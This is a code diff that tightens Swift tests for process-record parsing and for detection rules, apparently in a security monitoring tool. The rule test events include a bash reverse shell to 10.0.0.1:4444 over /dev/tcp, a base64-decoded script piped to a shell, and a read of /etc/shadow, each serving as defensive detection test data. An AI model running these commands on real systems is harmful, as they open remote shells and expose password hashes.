@@ -208,7 +208,7 @@ struct KernelRecordTests {
         p.appendLE(UInt32(321))
         func section(_ tag: UInt8, _ s: [UInt8]) { p.append(tag); p.appendLE(UInt32(s.count)); p += s }
         section(1, Array("321 (my (odd) name) S 1 321 321 0 -1 4194560 100 0 0 0 1 2 0 0 20 0 1 0 4242 1000 10".utf8))
-        section(2, Array("Name:\tx\nUid:\t1000\t1000\t1000\t1000\n".utf8))
+        section(2, Array("Name:\tx\nUid:\t1000\t1001\t1002\t1003\n".utf8))   // real, effective, saved, fs: distinct
         section(3, Array("python3\0-m\0http.server\0".utf8))
         section(4, Array("/usr/bin/python3.11".utf8))
         section(5, Array("/srv".utf8))
@@ -253,13 +253,15 @@ struct TeamRuleTests {
 
     @Test func teamRulesLoadAndMatch() throws {
         let engine = try SigmaEngine.load(paths: [Self.rulesDir])
-        #expect(engine.loadedCount == engine.diagnostics.count && engine.loadedCount >= 4)
+        let files = try FileManager.default.contentsOfDirectory(atPath: Self.rulesDir).filter { $0.hasSuffix(".yml") }
+        #expect(files.count == 4)
+        #expect(engine.loadedCount == engine.diagnostics.count && engine.loadedCount == files.count)
         let titles = { (e: Event) in Set(engine.evaluate(e).map(\.rule.title)) }
-        #expect(titles(event("/usr/bin/whoami", "whoami")).contains("Identity Discovery As Root"))
+        #expect(titles(event("/usr/bin/whoami", "whoami")) == ["Identity Discovery As Root"])
         #expect(titles(event("/usr/bin/whoami", "whoami", user: "alice")).isEmpty)
-        #expect(titles(event("/usr/bin/bash", "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'")).contains("Interactive Reverse Shell Through /dev/tcp Or A Network Tool"))
-        #expect(titles(event("/usr/bin/sh", "sh -c echo aGk= | base64 -d | sh")).contains("Base64-Decoded Script Piped To A Shell"))
+        #expect(titles(event("/usr/bin/bash", "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'")) == ["Interactive Reverse Shell Through /dev/tcp Or A Network Tool"])
+        #expect(titles(event("/usr/bin/sh", "sh -c echo aGk= | base64 -d | sh")) == ["Base64-Decoded Script Piped To A Shell"])
         #expect(titles(event("/usr/bin/sh", "sh -c base64 -d file > out")).isEmpty)
-        #expect(titles(event("/usr/bin/CAT", "cat /etc/SHADOW")).contains("Password Hash File Read By A Text Tool")) // case-insensitive
+        #expect(titles(event("/usr/bin/CAT", "cat /etc/SHADOW")) == ["Password Hash File Read By A Text Tool"]) // case-insensitive
     }
 }
